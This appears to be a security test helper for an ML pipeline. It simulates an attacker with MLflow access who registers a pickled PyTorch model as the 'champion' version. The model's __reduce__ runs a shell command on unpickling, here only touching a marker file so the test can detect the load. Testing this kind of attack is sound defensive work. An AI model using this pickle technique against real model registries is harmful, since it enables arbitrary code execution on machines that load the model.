"""What someone with nothing but MLflow access does: a version whose model is a pickled
PyTorch module that runs a shell command when unpickled, registered and made champion
through the plain MLflow client, in a process of its own (no mnistops code)."""

from __future__ import annotations

import os
import subprocess
import sys
import textwrap
from pathlib import Path

SCRIPT = textwrap.dedent(
    """
    import os, sys
    import mlflow, torch
    from mlflow import MlflowClient

    marker, name = sys.argv[1:]

    class Payload(torch.nn.Module):
        def __reduce__(self):
            # runs wherever the model is unpickled, except in this attacker's own process
            return (os.system, (f'[ -z "$MNISTOPS_ATTACKER" ] && touch {marker}',))

    mlflow.set_experiment("attacker")
    with mlflow.start_run() as run:
        info = mlflow.pytorch.log_model(
            Payload(), name="model", serialization_format="pickle", pip_requirements=["torch"]
        )
    client = MlflowClient()
    version = client.create_model_version(
        name, source=info.model_uri, run_id=run.info.run_id, model_id=info.model_id
    )
    client.set_registered_model_alias(name, "champion", version.version)
    print(version.version)
    """
)


def register_pickled_champion(mlflow_uri: str, name: str, marker: Path) -> str:
    """Register the payload as a version of `name` and point `champion` at it; returns
    the version. Unpickling it anywhere creates `marker`."""
    env = {
        k: v
        for k, v in os.environ.items()
        if not k.startswith(("MNISTOPS_", "MLFLOW_", "AWS_", "PREFECT_"))
    }
    env.update(
        {"MLFLOW_TRACKING_URI": mlflow_uri, "MNISTOPS_ATTACKER": "1", "DO_NOT_TRACK": "true"}
    )
    env["MLFLOW_DISABLE_TELEMETRY"] = "true"
    done = subprocess.run(
        [sys.executable, "-c", SCRIPT, str(marker), name],
        env=env,
        capture_output=True,
        text=True,
        timeout=180,
    )
    assert done.returncode == 0, done.stderr[-3000:]
    assert not marker.exists(), "the payload ran in the attacker's own process"
    return done.stdout.split()[-1]
